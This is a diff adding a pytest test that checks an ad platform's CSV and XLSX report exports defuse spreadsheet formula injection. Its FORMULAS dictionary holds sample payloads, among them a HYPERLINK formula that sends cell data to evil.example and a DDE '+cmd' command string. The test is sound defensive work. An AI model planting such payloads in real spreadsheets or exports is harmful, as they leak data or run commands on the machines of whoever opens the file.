@@ -170,3 +170,35 @@ def test_retention_keeps_the_days_inside_the_period(traffic, tmp_path):  # noqa:
     clicks = Click.objects.count()
     done = exports.raw_events_retention(now=LATER, directory=tmp_path)
     assert done["clicks"] == 0 and Click.objects.count() == clicks
+
+
+FORMULAS = {"advertiser": '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "campaign": "+cmd|' /C calc'!A0",
+            "keyword": "@SUM(1+1)*cmd", "placement": "-2+3"}
+
+
+@pytest.mark.parametrize("export", ["reports:export_report_csv", "reports:export_report_xlsx",
+                                    "reports:export_clicks_csv"])
+def test_names_that_look_like_formulas_are_exported_as_text(client, traffic, export):  # noqa: F811
+    """CSV/formula injection (OWASP): an advertiser's names starting with = + - @ open as text in Excel."""
+    from ads.models import Advertiser, Campaign, CampaignKeyword, Placement  # noqa: PLC0415
+
+    campaign = traffic["cpc"]
+    Advertiser.objects.filter(id=campaign.advertiser_id).update(name=FORMULAS["advertiser"])
+    Campaign.objects.filter(id=campaign.id).update(name=FORMULAS["campaign"])
+    CampaignKeyword.objects.filter(campaign=campaign).update(text=FORMULAS["keyword"])
+    Placement.objects.update(name=FORMULAS["placement"])
+    client.force_login(analyst())
+    response = client.get(reverse(export), RANGE, headers={"accept-language": "en"})
+    assert response.status_code == 200
+    if export.endswith("xlsx"):
+        book = load_workbook(io.BytesIO(response.content))
+        cells = [cell for row in book.worksheets[0].iter_rows(min_row=2) for cell in row[1:5]]
+        assert cells and not any(cell.data_type == "f" for cell in cells)
+        values = [cell.value for cell in cells]
+    else:
+        header, *rows = parse_csv(content(response))
+        first = header.index("Advertiser")
+        values = [value for row in rows for value in row[first:first + 4]]
+    texts = {value for value in values if value}
+    assert "'" + FORMULAS["advertiser"] in texts and "'" + FORMULAS["campaign"] in texts
+    assert not any(str(value).startswith(("=", "+", "-", "@")) for value in texts), texts
